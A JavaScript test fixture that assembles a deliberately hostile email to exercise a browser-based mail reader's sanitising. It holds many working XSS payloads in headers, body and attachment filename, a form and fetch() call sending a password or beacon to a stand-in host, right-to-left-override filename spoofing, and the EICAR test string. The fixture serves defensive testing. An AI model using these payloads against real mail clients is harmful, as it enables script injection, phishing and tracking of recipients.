// A message that tries everything against whoever reads it in a browser. Harmless: it names hosts that do not
// exist and carries the EICAR test string, so that it raises an alert.
export const beacon = "beacon.invalid";

export const eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"].join("");
const encoded = (text) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;

export const subject = 'Urgent \u202Efdp.exe <script>document.title="run"</script>';
export const longWord = "W".repeat(5000);

const html = `<html><head>
<title>t</title><base href="http://${beacon}/">
<meta http-equiv="refresh" content="0;url=http://${beacon}/refresh">
<link rel="stylesheet" href="http://${beacon}/style.css"><link rel="prefetch" href="http://${beacon}/prefetch">
<style>@import url(http://${beacon}/import.css); body { background: url(http://${beacon}/background.png); position: fixed; inset: 0 }</style>
<script>document.title = "run"; fetch("http://${beacon}/script")</script></head>
<body onload="alert(1)"><img src="http://${beacon}/pixel.gif" onerror="alert(2)"><svg onload="alert(3)"></svg>
<iframe src="http://${beacon}/frame"></iframe><object data="http://${beacon}/object"></object>
<video src="http://${beacon}/video" autoplay></video><audio src="http://${beacon}/audio" autoplay></audio>
<form action="http://${beacon}/form" id="f"><input name="password"><button autofocus onfocus="this.form.submit()">Pay</button></form>
<a href="javascript:alert(4)">click here</a> <a href="http://${beacon}/link">https://bank.example/</a>
<div style="background-image:url(http://${beacon}/inline.png)">seen</div><p hidden>un<b onclick="alert(10)">seen</b> words</p>${longWord}</body></html>`;

const plain = `<script>alert(5)</script><img src=x onerror=alert(6)>
left \u202Ethgir\u202C zero\u200Bwidth bell\u0007 escape\u001b[31mred null\u0000end
\u05E9\u05DC\u05D5\u05DD \u0627\u0644\u0633\u0644\u0627\u0645
${longWord}
`;

function part(type, text) {
  const lines = Buffer.from(text).toString("base64").match(/.{1,76}/g).join("\r\n");
  return `--b\r\nContent-Type: ${type}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${lines}\r\n`;
}

export const hostileMessage = [
  "Received: from evil.example ([192.0.2.1]) by mx.corp.example with ESMTP; Mon, 30 Nov 2026 01:00:04 +0000",
  "Authentication-Results: mx.corp.example; spf=fail smtp.mailfrom=evil.example",
  'Authentication-Results: "<img src=x onerror=alert(11)>"; dkim=pass header.d=bank.example',
  `Received: from <img/src=http://${beacon}/hop> by evil.example; Mon, 30 Nov 2026 00:59:00 +0000`,
  "Sender: bulk@evil.example",
  `From: ${encoded('<img src=x onerror=alert(7)>"')} <evil@${beacon}>`,
  `To: ${encoded("<b>you</b>")} <alice@example.org>`,
  `Subject: ${encoded(subject)}`,
  `X-Evil: <img src=http://${beacon}/header onerror=alert(8)>`,
  `X-Long: ${"h".repeat(900)}`,
  "MIME-Version: 1.0",
  "Content-Type: multipart/mixed; boundary=b",
  "",
  part("text/plain", plain) + part("text/html", html),
  `--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent('a"><img src=x onerror=alert(9)>\u202Efdp.com')}\r\n\r\n${eicar}\r\n--b--\r\n`,
].join("\r\n");
